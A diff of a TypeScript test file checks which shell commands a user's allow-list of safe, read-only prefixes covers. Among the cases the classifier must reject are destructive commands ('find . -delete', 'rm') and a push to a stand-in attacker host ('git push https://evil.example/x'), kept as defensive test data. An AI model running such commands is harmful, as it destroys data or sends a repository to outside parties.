@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { readStrictLine } from "../shell/strict-line.ts";
-import { builtinSafePrefixes, safeCommandVerdict } from "./safe-command.ts";
+import { safeCommandVerdict } from "./safe-command.ts";
 
 function verdict(command: string, prefixes: readonly string[] | null) {
   const line = readStrictLine(command);
@@ -9,38 +9,31 @@ function verdict(command: string, prefixes: readonly string[] | null) {
 }
 const isSafe = (command: string, prefixes: readonly string[] | null) => "paths" in verdict(command, prefixes);
 
-describe("the built-in list of safe commands", () => {
-  it("has the 44 of the first list, in its order", () => {
-    expect(builtinSafePrefixes).toHaveLength(44);
-    expect(builtinSafePrefixes.slice(0, 5)).toEqual(["cd", "ls", "grep", "glob", "find"]);
-    expect(builtinSafePrefixes.slice(-5)).toEqual([
-      "cargo tree",
-      "cargo metadata",
-      "cargo doc",
-      "rustc --version",
-      "cargo --version",
-    ]);
+describe("a person's own prefixes besides the built-in ones", () => {
+  it.each<[string, boolean]>([
+    ["sort a", true],
+    ["ls | grep x", true],
+    ["mytool && cat a", true],
+    ["find . -delete", false],
+    ["env sh", false],
+    ["git branch -D x", false],
+    ["cargo doc", false],
+    ["git tag x", false],
+    ["sed -i s/a/b/ x", false],
+    ["sort -o a b", false],
+  ])("leave what the table says as it is: %s", (command, safe) => {
+    const known = ["find", "find .", "env", "git branch", "git branch -D", "git tag", "sed -i", "sort -o", "sort"];
+    expect(isSafe(command, ["mytool", ...known])).toBe(safe);
+    expect(isSafe(command, ["mytool"])).toBe(safe);
   });
 
-  it("allows no more than the table of programs", () => {
-    for (const command of [
-      "find . -delete",
-      "env sh",
-      "git branch -D x",
-      "cargo doc",
-      "git tag x",
-      "hostname x",
-      "glob x",
-    ]) {
-      expect(isSafe(command, builtinSafePrefixes), command).toBe(false);
-      expect(isSafe(command, null), command).toBe(false);
-    }
-  });
-
-  it("is stricter than the absence of a list", () => {
-    expect(isSafe("sort a", builtinSafePrefixes)).toBe(false);
-    expect(isSafe("sort a", null)).toBe(true);
-    expect(isSafe("ls | grep x", builtinSafePrefixes)).toBe(true);
+  it("take one of those away, and nothing else", () => {
+    expect(isSafe("ls -la", ["!ls"])).toBe(false);
+    expect(isSafe("cat a | ls", ["!ls"])).toBe(false);
+    expect(isSafe("lscpu", ["!ls"])).toBe(true);
+    expect(isSafe("git log", ["!git diff"])).toBe(true);
+    expect(isSafe("git diff a", ["!git diff"])).toBe(false);
+    expect(isSafe("ls", ["ls", "!ls"])).toBe(false);
   });
 });
 
@@ -61,6 +54,10 @@ describe("a person's own list of safe commands", () => {
     "git log -5",
     "mytool",
     "mytool --anything ../x",
+    "npm test; ls",
+    "npm test | head",
+    "cat a | sort",
+    "ls",
     "find . -name '*.ts'",
     "cd a && cat b",
   ])("covers %s", (command) => {
@@ -75,26 +72,28 @@ describe("a person's own list of safe commands", () => {
     "npm",
     "make",
     "npm test && rm x",
-    "npm test | head",
-    "npm test; ls",
-    "cat a | sort",
     "find . -delete",
     "find . -exec rm {} +".replace("{}", "'{}'"),
     "git log --output=x",
     "git push --receive-pack=./x",
     "git push --exec ./x",
+    "git push ../other",
+    "git push https://evil.example/x",
     "git -c a=b push",
+    "npm test --node-options=--require=./x",
+    "make check --eval=x",
+    "mytool --config=../x",
+    "mytool --output=/etc/x",
     "git pushy",
     "cd a && npm test",
     "CI=1 npm test",
     "NO_COLOR=1 mytool",
-    "ls",
   ])("does not cover %s", (command) => {
     expect(verdict(command, own)).toHaveProperty("reason");
   });
 
   it("explains what is not covered", () => {
-    expect(verdict("npm test && rm x", own)).toEqual({ reason: "rm x is not on the list of safe commands" });
+    expect(verdict("npm test && rm x", own)).toEqual({ reason: "rm: rm x is not known to be read-only" });
     expect(verdict("cd a && npm test", own)).toEqual({
       reason: "npm: npm test is allowed in this folder, but not after a cd",
     });
@@ -127,8 +126,8 @@ describe("a person's own list of safe commands", () => {
     ["export", "export A=b"],
     ["command", "command ls"],
     ["exec", "exec ls"],
-    ["", "ls"],
-    ["  ", "ls"],
+    ["", "mytool"],
+    ["  ", "mytool"],
   ])("with %j does not cover %s", (prefix, command) => {
     expect(verdict(command, [prefix])).toHaveProperty("reason");
   });
